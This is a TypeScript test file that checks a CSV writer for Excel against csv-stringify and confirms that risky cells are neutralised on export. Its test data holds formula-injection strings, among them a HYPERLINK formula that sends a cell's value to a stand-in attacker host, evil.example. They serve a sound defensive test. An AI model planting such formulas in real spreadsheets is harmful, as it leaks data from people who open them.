import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { excelCsv, neutraliseFormula, type Cell, type CsvSeparator } from './csv.js';

/** What the writer replaced: csv-stringify with the options excelCsv used to pass it. */
function library(header: string[], rows: Cell[][], sep: CsvSeparator, notes: string[]): Buffer {
  const body = stringify(
    [...notes.map((n) => [`# ${n}`]), header, ...rows.map((r) => r.map((v) => v ?? ''))],
    { delimiter: sep, record_delimiter: '\r\n', cast: { string: neutraliseFormula } },
  );
  return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(body, 'utf8')]);
}

describe('excelCsv', () => {
  it('writes what csv-stringify wrote, byte for byte, except that a lone line break is quoted; every cell reads back', () => {
    const cells: Cell[] = [
      '',
      null,
      undefined,
      0,
      -3.25,
      1e21,
      'plain',
      'Chen; Li',
      'a,b',
      'say "hi"',
      '"',
      'two\nlines',
      'cr\rhere',
      'crlf\r\nend',
      '=HYPERLINK("http://evil.example/?x="&A2,"Open")',
      '+1',
      '-@x',
      '@SUM(A1)',
      '\tTab',
      'ليلى بن علي',
      'Émile Ñoño',
      ' spaced ',
      "it's",
    ];
    const rows: Cell[][] = cells.map((c, i) => [c, cells[(i * 7) % cells.length]!, i]);
    const header = ['name', 'note; or, both', 'n'];
    const notes = ['Passed: a "final" result; counted once', 'second, note'];
    // The library left a lone \n or \r unquoted (Excel then splits the row): those are quoted now.
    const lone = (c: Cell) => typeof c === 'string' && /\r(?!\n)|(?<!\r)\n/.test(c);
    const same = rows.filter((r) => !r.some(lone));
    for (const sep of [',', ';'] as const) {
      const ours = excelCsv(header, same, { separator: sep, notes });
      expect(ours.toString('utf8')).toBe(library(header, same, sep, notes).toString('utf8'));
      // Every cell reads back as written (formulas with their apostrophe), line breaks included.
      const back: string[][] = parse(excelCsv(header, rows, { separator: sep, notes }).subarray(3), {
        delimiter: sep,
        relax_column_count: true,
      });
      expect(back.slice(notes.length)).toEqual(
        [header, ...rows].map((r) =>
          r.map((c) => (typeof c === 'string' ? neutraliseFormula(c) : String(c ?? ''))),
        ),
      );
    }
    expect(excelCsv(['a'], []).toString('utf8')).toBe(library(['a'], [], ',', []).toString('utf8'));
  });
});
